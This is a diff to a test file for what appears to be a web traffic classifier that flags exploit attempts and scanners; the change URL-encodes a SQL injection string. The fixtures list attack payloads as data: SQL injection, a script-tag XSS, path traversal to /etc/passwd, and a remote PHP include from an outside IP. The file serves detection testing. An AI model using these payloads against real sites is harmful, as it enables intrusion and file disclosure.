@@ -28,7 +28,7 @@ function verdictAfter(requests: RequestFacts[], gapMs: number): Verdict | undefi
 describe('exploit attempts', () => {
   // High-severity payloads: two within 30 s are an exploit attempt; one may be a person pasting odd text.
   const HIGH: Array<[string, string]> = [
-    ['sql-injection', "/item?id=1' or '1'='1"],
+    ['sql-injection', "/item?id=1'%20or%20'1'='1"],
     ['xss', '/search?q=<script>alert(1)</script>'],
     ['path-traversal', '/index.php?page=../../etc/passwd'],
     ['php-remote-include', '/index.php?page=http://198.51.100.9/x.txt'],
@@ -137,7 +137,7 @@ describe('the strongest verdict stays', () => {
   const SQLMAP = 'sqlmap/1.7.2#stable (https://sqlmap.org)';
   const scanner = req('/', 200, { userAgent: SQLMAP });
   const wp = req('/wp-login.php', 404);
-  const sqli = req("/item?id=1' or '1'='1", 200);
+  const sqli = req("/item?id=1'%20or%20'1'='1", 200);
 
   it('keeps "scanner" when the scanner then probes WordPress, and "exploit" over both', () => {
     const scannerWp = { ...wp, userAgent: SQLMAP };
